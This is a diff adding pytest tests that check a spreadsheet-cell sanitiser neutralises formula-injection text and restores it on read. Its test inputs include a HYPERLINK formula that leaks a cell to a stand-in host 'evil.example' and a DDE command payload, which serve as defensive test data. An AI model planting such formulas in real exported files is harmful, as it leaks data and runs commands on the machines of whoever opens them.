@@ -137,3 +137,23 @@ def test_a_writer_killed_at_any_moment_leaves_the_old_or_the_new_file(tmp_path):
     for leftover in tmp_path.glob(".changes.csv.*.tmp"):  # a kill between write and rename leaves at most this
         leftover.unlink()
     assert seen  # the file was always whole
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['=HYPERLINK("http://evil.example/?leak="&A1)', "+31 6 1234", "@SUM(A1:A9)", "-cmd|' /C calc'!A0", "\tx", "\rx"],
+)
+def test_formula_text_is_neutralised_for_spreadsheets_and_restored_when_read(text):
+    from impactkit.core.files import neutralise_cell, restore_cell
+
+    safe = neutralise_cell(text)
+    assert safe == "'" + text
+    assert restore_cell(safe) == text
+
+
+@pytest.mark.parametrize("value", [3, 2.5, "-5", "+1,5", "gewoon tekst", "'al tussen aanhalingstekens", None, ""])
+def test_numbers_and_plain_text_are_left_alone(value):
+    from impactkit.core.files import neutralise_cell, restore_cell
+
+    assert neutralise_cell(value) == value
+    assert restore_cell(value) == value
